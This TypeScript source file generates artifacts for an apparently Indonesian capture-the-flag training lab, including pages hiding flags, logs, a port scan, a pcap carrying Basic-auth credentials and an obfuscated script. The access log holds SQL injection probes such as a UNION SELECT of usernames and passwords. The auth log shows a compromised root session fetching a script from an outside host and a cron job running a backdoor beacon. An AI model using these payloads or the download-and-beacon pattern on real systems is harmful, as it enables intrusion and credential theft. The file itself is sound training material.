// The demo lab's files (issue 17), made in code so every seeded database has the same ones without anything uploaded:
// a web page's source, an access log, a per-user auth log template, a small packet capture, a port scan, a checker
// script and an obfuscated shell script. storage/demo-files.ts serves them under their `demo/lab/…` keys. None of
// them contains a flag as plain text: each has to be read, decoded or reassembled, which is the challenge.

/** ROT13 (letters only). */
export function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (char) => {
    const base = char <= 'Z' ? 65 : 97;
    return String.fromCharCode(((char.charCodeAt(0) - base + 13) % 26) + base);
  });
}

export const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

/** web-101: the flag is split over a script's array, with a comment that says where to look. */
export function web101Page(flag: string): string {
  const parts = [flag.slice(0, 9), flag.slice(9, 15), flag.slice(15)];
  return `<!doctype html>
<html lang="id">
<head>
  <meta charset="utf-8">
  <title>Portal Internal — PT Contoh Aman</title>
</head>
<body>
  <h1>Portal Internal</h1>
  <p>Halaman ini sedang dalam perbaikan.</p>
  <!-- TODO(dev): jangan lupa hapus kunci uji di bawah sebelum rilis. Urutannya: bagian[0] + bagian[1] + bagian[2] -->
  <script>
    const bagian = ${JSON.stringify(parts)};
    // console.log(bagian.join(''));
  </script>
</body>
</html>
`;
}

/** web-102: the admin check compares the cookie with a hex-encoded secret. */
export function cookiePage(flag: string): string {
  const hex = Buffer.from(flag, 'utf8').toString('hex').match(/../g)?.join(' ') ?? '';
  // One line of the page's script, as the player reads it.
  const showSecret =
    "document.getElementById('pesan').textContent = " +
    "rahasia.split(' ').map((h) => String.fromCharCode(parseInt(h, 16))).join('');";
  return `<!doctype html>
<html lang="id">
<head><meta charset="utf-8"><title>Dasbor</title></head>
<body>
  <div id="pesan">Selamat datang, tamu.</div>
  <script>
    // Peran disimpan di cookie, dikodekan base64: "dGFtdQ==" adalah "tamu".
    document.cookie = 'peran=' + btoa('tamu');
    function bacaPeran() {
      const nilai = document.cookie.split('; ').find((c) => c.startsWith('peran='));
      return nilai ? atob(nilai.split('=')[1]) : 'tamu';
    }
    if (bacaPeran() === 'admin') {
      // Hanya admin yang boleh melihat ini (heksadesimal, dipisah spasi).
      const rahasia = '${hex}';
      ${showSecret}
    }
  </script>
</body>
</html>
`;
}

/** jejak-log-akses: one address probes for SQL injection among ordinary visitors. */
export function accessLog(attacker: string): string {
  const lines: string[] = [];
  const visitors = ['192.0.2.10', '192.0.2.24', '198.51.100.7', '192.0.2.88'];
  const pages = ['/', '/produk', '/produk/12', '/kontak', '/tentang', '/keranjang'];
  const agents = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'Mozilla/5.0 (X11; Linux x86_64)'];
  const twoDigits = (value: number) => String(value).padStart(2, '0');
  const stamp = (minute: number) =>
    `[01/Nov/2026:09:${twoDigits(Math.floor(minute / 60) % 60)}:${twoDigits(minute % 60)} +0700]`;
  const probes = [
    "/produk?id=12'",
    '/produk?id=12%20OR%201=1--',
    '/produk?id=12%20UNION%20SELECT%20username,password%20FROM%20pengguna--',
    "/login?user=admin'--",
  ];
  for (let i = 0; i < 40; i++) {
    const ip = visitors[i % visitors.length];
    lines.push(
      `${ip} - - ${stamp(i * 7)} "GET ${pages[(i * 5) % pages.length]} HTTP/1.1" 200 ` +
        `${2000 + ((i * 37) % 900)} "-" "${agents[i % 2]}"`,
    );
    if (i % 10 === 3) {
      const probe = probes[Math.floor(i / 10)];
      lines.push(`${attacker} - - ${stamp(i * 7 + 3)} "GET ${probe} HTTP/1.1" 500 312 "-" "sqlmap/1.7.2#stable"`);
    }
  }
  return `${lines.join('\n')}\n`;
}

/** log-pribadi (per user): the downloader's own flag, base64-encoded, in a backdoor's beacon line. */
export const PERSONAL_AUTH_LOG = [
  'Nov  1 02:11:04 web01 sshd[1201]: Accepted publickey for deploy from 192.0.2.10 port 50122 ssh2',
  'Nov  1 02:14:37 web01 sshd[1240]: Invalid user backup from 198.51.100.23 port 41890',
  'Nov  1 02:14:39 web01 sshd[1240]: Failed password for invalid user backup from 198.51.100.23 port 41890 ssh2',
  'Nov  1 02:14:45 web01 sshd[1244]: Failed password for root from 198.51.100.23 port 41902 ssh2',
  'Nov  1 02:15:02 web01 sshd[1251]: Accepted password for root from 198.51.100.23 port 41930 ssh2',
  'Nov  1 02:15:09 web01 sudo:     root : TTY=pts/1 ; PWD=/root ; USER=root ; ' +
    'COMMAND=/usr/bin/curl -s http://198.51.100.23/b.sh',
  'Nov  1 02:15:11 web01 cron[1260]: (root) CMD (/tmp/.b/beacon --id {{FLAG_BASE64}})',
  'Nov  1 02:20:00 web01 sshd[1301]: Accepted publickey for deploy from 192.0.2.10 port 50188 ssh2',
  '',
].join('\n');

/** port-tersembunyi: SSH moved to a high port. */
export const NMAP_SCAN = `Starting Nmap 7.94 ( https://nmap.org ) at 2026-11-01 09:00 WIB
Nmap scan report for target.lab.akademisiber.id (10.10.5.20)
Host is up (0.0021s latency).
Not shown: 996 closed tcp ports (reset)
PORT     STATE SERVICE VERSION
80/tcp   open  http    nginx 1.24.0
443/tcp  open  ssl/http nginx 1.24.0
2222/tcp open  ssh     OpenSSH 8.9p1 Ubuntu 3ubuntu0.6 (Ubuntu Linux; protocol 2.0)
3306/tcp open  mysql   MySQL 8.0.35

Nmap done: 1 IP address (1 host up) scanned in 12.41 seconds
`;

/** pemeriksa-sandi: the checker compares the input with the flag's character codes, stored backwards. */
export function checkerScript(flag: string): string {
  const codes = [...flag].map((char) => char.charCodeAt(0)).reverse();
  return `// Pemeriksa sandi sederhana. Jalankan: node periksa.js <sandi>
const target = ${JSON.stringify(codes)};

function periksa(sandi) {
  const kode = [...sandi].map((c) => c.charCodeAt(0)).reverse();
  return kode.length === target.length && kode.every((k, i) => k === target[i]);
}

console.log(periksa(process.argv[2] ?? '') ? 'Sandi benar!' : 'Sandi salah.');
`;
}

/** skrip-tersamar: the flag reversed, then base64. */
export function obfuscatedScript(flag: string): string {
  return `#!/bin/sh
# Skrip ini ditemukan di /tmp pada server yang disusupi. Apa yang dicetaknya?
K="${b64([...flag].reverse().join(''))}"
echo "$K" | base64 -d | rev
`;
}

// ------------------------------------------------------------------------------------------------ pcap

const ip4 = (address: string) => Buffer.from(address.split('.').map(Number));

function checksum(buffer: Buffer): number {
  let sum = 0;
  for (let i = 0; i < buffer.length; i += 2) sum += (buffer[i] << 8) + (i + 1 < buffer.length ? buffer[i + 1] : 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

interface Segment {
  from: 'client' | 'server';
  flags: number;
  seq: number;
  ack: number;
  payload?: string;
}

const CLIENT = { mac: '02:00:00:00:00:0a', ip: '10.10.5.31', port: 51544 };
const SERVER = { mac: '02:00:00:00:00:14', ip: '10.10.5.20', port: 80 };
const SYN = 0x02;
const ACK = 0x10;
const PSH = 0x08;
const FIN = 0x01;

function frame(segment: Segment, id: number): Buffer {
  const [src, dst] = segment.from === 'client' ? [CLIENT, SERVER] : [SERVER, CLIENT];
  const payload = Buffer.from(segment.payload ?? '', 'latin1');
  const tcp = Buffer.alloc(20);
  tcp.writeUInt16BE(src.port, 0);
  tcp.writeUInt16BE(dst.port, 2);
  tcp.writeUInt32BE(segment.seq >>> 0, 4);
  tcp.writeUInt32BE(segment.ack >>> 0, 8);
  tcp[12] = 5 << 4;
  tcp[13] = segment.flags;
  tcp.writeUInt16BE(64240, 14);
  const pseudo = Buffer.concat([ip4(src.ip), ip4(dst.ip), Buffer.from([0, 6]), Buffer.alloc(2)]);
  pseudo.writeUInt16BE(tcp.length + payload.length, 10);
  tcp.writeUInt16BE(checksum(Buffer.concat([pseudo, tcp, payload])), 16);

  const ip = Buffer.alloc(20);
  ip[0] = 0x45;
  ip.writeUInt16BE(20 + tcp.length + payload.length, 2);
  ip.writeUInt16BE(id, 4);
  ip.writeUInt16BE(0x4000, 6);
  ip[8] = 64;
  ip[9] = 6;
  ip4(src.ip).copy(ip, 12);
  ip4(dst.ip).copy(ip, 16);
  ip.writeUInt16BE(checksum(ip), 10);

  const mac = (text: string) => Buffer.from(text.split(':').map((part) => parseInt(part, 16)));
  return Buffer.concat([mac(dst.mac), mac(src.mac), Buffer.from([0x08, 0x00]), ip, tcp, payload]);
}

/**
 * tangkapan-jaringan: one plain-HTTP request with Basic authentication, as a classic pcap (Ethernet, microsecond
 * timestamps) that Wireshark and tcpdump open. The password is in the Authorization header, base64-encoded as HTTP
 * sends it.
 */
export function httpCapturePcap(user: string, password: string): Buffer {
  const request =
    'GET /admin/ HTTP/1.1\r\nHost: intranet.contoh-aman.id\r\nUser-Agent: curl/8.5.0\r\n' +
    `Authorization: Basic ${b64(`${user}:${password}`)}\r\nAccept: */*\r\n\r\n`;
  const body = '<h1>Panel Admin Intranet</h1>\n';
  const response =
    `HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nContent-Type: text/html\r\nContent-Length: ` +
    `${body.length}\r\n\r\n${body}`;
  const c = 1_000_000;
  const s = 5_000_000;
  const segments: Segment[] = [
    { from: 'client', flags: SYN, seq: c, ack: 0 },
    { from: 'server', flags: SYN | ACK, seq: s, ack: c + 1 },
    { from: 'client', flags: ACK, seq: c + 1, ack: s + 1 },
    { from: 'client', flags: PSH | ACK, seq: c + 1, ack: s + 1, payload: request },
    { from: 'server', flags: ACK, seq: s + 1, ack: c + 1 + request.length },
    { from: 'server', flags: PSH | ACK, seq: s + 1, ack: c + 1 + request.length, payload: response },
    { from: 'client', flags: FIN | ACK, seq: c + 1 + request.length, ack: s + 1 + response.length },
    { from: 'server', flags: FIN | ACK, seq: s + 1 + response.length, ack: c + 2 + request.length },
    { from: 'client', flags: ACK, seq: c + 2 + request.length, ack: s + 2 + response.length },
  ];
  const header = Buffer.alloc(24);
  header.writeUInt32LE(0xa1b2c3d4, 0);
  header.writeUInt16LE(2, 4);
  header.writeUInt16LE(4, 6);
  header.writeUInt32LE(65535, 16);
  header.writeUInt32LE(1, 20);
  const start = Date.UTC(2026, 10, 1, 2, 0, 0) / 1000;
  const records = segments.map((segment, index) => {
    const data = frame(segment, 0x1c00 + index);
    const record = Buffer.alloc(16);
    record.writeUInt32LE(start, 0);
    record.writeUInt32LE(index * 1500, 4);
    record.writeUInt32LE(data.length, 8);
    record.writeUInt32LE(data.length, 12);
    return Buffer.concat([record, data]);
  });
  return Buffer.concat([header, ...records]);
}
